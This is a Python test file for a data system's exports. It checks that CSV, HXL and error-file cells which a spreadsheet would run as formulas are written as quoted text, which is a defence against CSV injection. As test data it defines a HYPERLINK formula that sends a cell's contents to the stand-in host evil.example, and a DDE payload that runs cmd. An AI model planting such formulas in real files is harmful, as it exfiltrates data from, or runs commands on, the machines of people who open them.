"""Exports never hand a spreadsheet a formula (OWASP "CSV injection").

Text that users typed or imported — an area name, a weapon's model, a narrative, a rejected
value — is written with a leading quote when a spreadsheet would run it; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
import sqlalchemy as sa
from weapons_support import seed_registry
from web_support import seed

from salus.domain.accounts.roles import SYSTEM_VIEWER
from salus.domain.spreadsheet import safe_cell
from salus.ingestion.errors import RowError, write_errors_csv
from salus.storage import schema as t
from salus.storage.weapons import schema as arms
from salus.usecases.imports.jobs import errors_csv
from salus.usecases.incidents.export import export_incidents
from salus.usecases.incidents.query import IncidentFilter
from salus.usecases.weapons import export as weapons_export

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+cmd", "'-1+cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-12", "-12"), ("+3.5", "+3.5"), ("-1e3", "-1e3"),
    ("Ciudad Bolívar", "Ciudad Bolívar"), ("", ""), (-74.1, -74.1), (None, None),
])
def test_a_text_cell_a_spreadsheet_would_run_is_written_as_text(value: object,
                                                                 written: object) -> None:
    assert safe_cell(value) == written


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_incident_exports_write_hostile_names_and_narratives_as_text(
        engine: sa.Engine) -> None:
    seed(engine, per_district=1)
    with engine.begin() as conn:
        conn.execute(t.area.update().values(name=HOSTILE))
        conn.execute(t.incident.update().values(narrative=COMMAND))
    for fmt in ("csv", "hxl"):
        rows = _rows("".join(export_incidents(engine, SYSTEM_VIEWER, IncidentFilter(), fmt)))
        data = rows[1:] if fmt == "hxl" else rows
        assert data and all(r["area_name"] == "'" + HOSTILE for r in data), fmt
        assert all(r["narrative"] == "'" + COMMAND for r in data), fmt
        assert all(not r["longitude"].startswith("'") for r in data), fmt


def test_the_registry_export_writes_a_hostile_model_as_text(engine: sa.Engine) -> None:
    reg = seed_registry(engine)
    with engine.begin() as conn:
        conn.execute(arms.weapon.update().values(model=COMMAND))
    rows = _rows(weapons_export.export_csv(engine, reg.officer))
    assert rows and {r["model"] for r in rows} == {"'" + COMMAND}


def test_rejected_values_are_written_as_text_in_error_files(tmp_path: Path) -> None:
    errors = [RowError(7, "area_code", HOSTILE, "area.unknown", "no such area")]
    written = write_errors_csv(tmp_path / "errors.csv", errors).read_text("utf-8-sig")
    assert _rows(written)[0]["value"] == "'" + HOSTILE
    assert _rows(errors_csv(errors))[0]["value"] == "'" + HOSTILE
